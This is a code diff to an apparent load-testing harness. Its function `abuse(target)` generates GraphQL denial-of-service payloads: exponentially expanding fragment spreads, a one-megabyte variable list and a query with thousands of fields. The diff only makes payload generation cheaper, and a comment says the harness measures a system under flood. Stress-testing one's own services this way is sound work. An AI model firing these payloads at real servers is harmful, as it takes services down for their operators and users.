@@ -35,11 +35,14 @@ async function abuse(target: string): Promise<never> {
   process.on('message', () => void (running = false));
   const codes: Record<string, number> = {};
   let requests = 0;
-  const bigList = JSON.stringify(Array.from({ length: 100_000 }, (_, i) => `SKU-${i}`));
-  const kinds: ((salt: number) => string)[] = [
+  // The megabyte list is encoded once and copied into each body: the bytes sent are the same, but
+  // generating them costs a memcpy rather than a string concatenation and its UTF-8 encoding, CPU
+  // that a real flood spends on other machines and that here would be taken from the system measured.
+  const bigList = Buffer.from(JSON.stringify(Array.from({ length: 100_000 }, (_, i) => `SKU-${i}`)));
+  const kinds: ((salt: number) => string | Buffer)[] = [
     (salt) => JSON.stringify({ query: `# ${salt}\n{ ...F0 } ${Array.from({ length: 40 }, (_, i) => `fragment F${i} on Query { ...F${i + 1} ...F${i + 1} }`).join(' ')} fragment F40 on Query { locations { code } }` }),
     (salt) => JSON.stringify({ query: `# ${salt}\n{ locations { ...F0 } } ${Array.from({ length: 30 }, (_, i) => `fragment F${i} on Location { stock { location { ...F${i + 1} ...F${i + 1} } } }`).join(' ')} fragment F30 on Location { code }` }),
-    (salt) => `{"query":${JSON.stringify(`# ${salt}\nquery($skus: [String!]!) { availability(skus: $skus, channel: WEB) { sku } }`)},"variables":{"skus":${bigList}}}`,
+    (salt) => Buffer.concat([Buffer.from(`{"query":${JSON.stringify(`# ${salt}\nquery($skus: [String!]!) { availability(skus: $skus, channel: WEB) { sku } }`)},"variables":{"skus":`), bigList, Buffer.from('}}')]),
     (salt) => JSON.stringify({ query: `# ${salt}\n{ locations { ${Array.from({ length: 2_900 }, (_, i) => `f${i}`).join(' ')} } }` }),
   ];
   const started = performance.now();
